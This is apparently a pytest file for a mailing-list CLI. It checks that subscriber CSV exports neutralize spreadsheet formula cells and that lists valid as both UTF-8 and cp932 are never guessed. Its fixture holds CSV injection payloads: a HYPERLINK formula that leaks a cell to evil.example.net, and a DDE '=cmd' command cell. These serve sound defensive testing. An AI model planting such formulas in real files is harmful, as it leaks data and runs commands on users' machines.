"""Lists as files from outside: what export writes for a spreadsheet (issue 14 item 9),
and which encoding a list is read in (item 10)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from conftest import Runner

FORMULAS = (
    "email,name,company,note\r\n"
    'hanako@example.jp,"=HYPERLINK(""https://evil.example.net/?""&A2,""詳細"")",'
    "+81-3-1234-5678,-2+3\r\n"
    "taro@example.jp,@SUM(1+1),=cmd|' /C calc'!A0,普通のメモ\r\n"
    "jiro@example.jp,山田 次郎,菊花商事,'=quoted already\r\n"
)


def test_export_neutralizes_formula_cells_and_raw_keeps_them(workspace: Path, run: Runner) -> None:
    (workspace / "subscribers" / "crm.csv").write_text(FORMULAS, encoding="utf-8")
    result = run("subscribers", "export", "crm")
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout_bytes.decode("utf-8"))))
    assert rows == [
        ["email", "name", "company", "note"],
        [
            "hanako@example.jp",
            '\'=HYPERLINK("https://evil.example.net/?"&A2,"詳細")',
            "'+81-3-1234-5678",
            "'-2+3",
        ],
        ["taro@example.jp", "'@SUM(1+1)", "'=cmd|' /C calc'!A0", "普通のメモ"],
        ["jiro@example.jp", "山田 次郎", "菊花商事", "'=quoted already"],
    ]
    raw = run("subscribers", "export", "crm", "--raw", "-o", "raw.csv")
    assert raw.exit_code == 0, raw.output
    assert (workspace / "raw.csv").read_bytes() == FORMULAS.encode("utf-8")


# An old system's export in cp932 with half-width katakana names only: every byte of it
# is also valid UTF-8 ("ﾅｶﾆｼ" = c5 b6 c6 bc reads as "ŶƼ").
KANA_ROWS = [
    ("nakanishi@example.jp", "ﾅｶﾆｼ ﾕｳ"),
    ("hoso@example.jp", "ﾎｿ ﾏｲ"),
    ("hashi@example.jp", "ﾊｼ ﾐｷ"),
]


def _kana_list(root: Path, name: str = "legacy") -> Path:
    path = root / "subscribers" / f"{name}.csv"
    lines = ["email,name,status"] + [f"{a},{n},subscribed" for a, n in KANA_ROWS]
    path.write_bytes("\r\n".join(lines).encode("cp932") + b"\r\n")
    path.read_bytes().decode("utf-8")  # the premise: it is valid UTF-8 too
    return path


AMBIGUOUS = (
    "Error: subscribers/legacy.csv:2: these bytes are valid UTF-8 and valid cp932"
    " (Shift_JIS), and the two readings differ: UTF-8 'nakanishi@example.jp,ŶƼ ճ,subscribed',"
    " cp932 'nakanishi@example.jp,ﾅｶﾆｼ ﾕｳ,subscribed'\n"
    "Hint: say which with --encoding cp932 (a CSV saved by Excel in Japan) or --encoding utf-8;"
    " a list that send reads must be saved as 'CSV UTF-8' (digest-mail subscribers export"
    " LIST --encoding cp932 -o FILE writes it)\n"
)


def test_a_list_that_is_valid_utf8_and_valid_cp932_is_never_guessed(
    workspace: Path, run: Runner
) -> None:
    _kana_list(workspace)
    for args in (
        ("subscribers", "check", "legacy"),
        ("subscribers", "count", "legacy"),
        ("subscribers", "export", "legacy"),
        ("subscribers", "import", "subscribers/legacy.csv", "--into", "weekly"),
        ("send", "--list", "legacy", "--dry-run"),
    ):
        if args[0] == "send":
            assert run("compose", "--since", "3650d").exit_code == 0
        result = run(*args)
        assert (result.exit_code, result.output) == (1, AMBIGUOUS), args


def test_the_encoding_can_be_stated(workspace: Path, run: Runner) -> None:
    _kana_list(workspace)
    checked = run("subscribers", "check", "legacy", "--encoding", "cp932", "--json")
    assert checked.exit_code == 0, checked.output
    as_utf8 = run("subscribers", "count", "legacy", "--encoding", "utf-8")
    assert as_utf8.exit_code == 0, as_utf8.output
    exported = run("subscribers", "export", "legacy", "--encoding", "cp932", "-o", "fixed.csv")
    assert exported.exit_code == 0, exported.output
    rows = list(csv.reader(io.StringIO((workspace / "fixed.csv").read_text(encoding="utf-8"))))
    assert [tuple(r[:2]) for r in rows[1:]] == KANA_ROWS
    # Saved as UTF-8, the katakana are three bytes each: no longer ambiguous.
    (workspace / "fixed.csv").replace(workspace / "subscribers" / "legacy.csv")
    assert run("subscribers", "check", "legacy").exit_code == 0
    imported = run(
        "subscribers", "import", "fixed2.csv", "--into", "kana", "--new-list", "--encoding", "cp932"
    )
    assert imported.exit_code == 1  # no such file: the option does not hide errors
    _kana_list(workspace, "old")
    imported = run(
        "subscribers",
        "import",
        "subscribers/old.csv",
        "--into",
        "kana",
        "--new-list",
        "--encoding",
        "cp932",
    )
    assert imported.exit_code == 0, imported.output
    assert "ﾅｶﾆｼ ﾕｳ" in (workspace / "subscribers" / "kana.csv").read_text(encoding="utf-8")


UTF8_SAMPLES = {
    # Real rows of the sample workspace: Japanese in UTF-8 (three-byte characters).
    "sample": None,
    "halfwidth-in-utf8": "email,name\r\nnakanishi@example.jp,ﾅｶﾆｼ ﾕｳ\r\n",
    "european": (
        "email,name\r\nmueller@example.de,Jürgen Müller\r\njose@example.es,José Núñez\r\n"
        "zoe@example.fr,Zoë Ångström\r\nolga@example.ru,Ольга Иванова\r\n"
    ),
    "mixed": "email,name\r\nmueller@example.de,Jürgen Müller\r\nsato@example.jp,佐藤 花子\r\n",
}


def test_no_false_alarm_on_ordinary_utf8_or_cp932_lists(workspace: Path, run: Runner) -> None:
    for name, text in UTF8_SAMPLES.items():
        path = workspace / "subscribers" / f"{name}.csv"
        if text is None:
            sample = (workspace / "subscribers" / "weekly.csv").read_text(encoding="utf-8")
            text = "".join(sample.splitlines(keepends=True)[:12])
        path.write_text(text, encoding="utf-8")
        result = run("subscribers", "check", name)
        assert result.exit_code == 0, (name, result.output)
    excel = Path(__file__).parents[1] / "fixtures" / "subscribers" / "excel-cp932.csv"
    (workspace / "subscribers" / "excel.csv").write_bytes(excel.read_bytes())
    result = run("subscribers", "export", "excel")
    assert result.exit_code == 0, result.output
    assert "髙橋 一郎" in result.stdout_bytes.decode("utf-8")


def test_latin_text_glued_to_its_letters_settles_a_list_as_utf8(
    workspace: Path, run: Runner
) -> None:
    """'á' alone is ambiguous (cp932 'ﾃ｡'); one 'Müller' in the same file ('Mﾃｼller' read
    as cp932) shows it is UTF-8."""
    path = workspace / "subscribers" / "latin.csv"
    path.write_text("email,name\r\na@example.es,á\r\n", encoding="utf-8")
    assert run("subscribers", "check", "latin").exit_code == 1
    path.write_text(
        "email,name\r\na@example.es,á\r\nmueller@example.de,Jürgen Müller\r\n", encoding="utf-8"
    )
    result = run("subscribers", "check", "latin")
    assert (result.exit_code, result.output) == (
        0,
        "subscribers/latin.csv: 2 rows: 2 subscribed, 0 unsubscribed, 0 suppressed, 0 problems\n",
    )
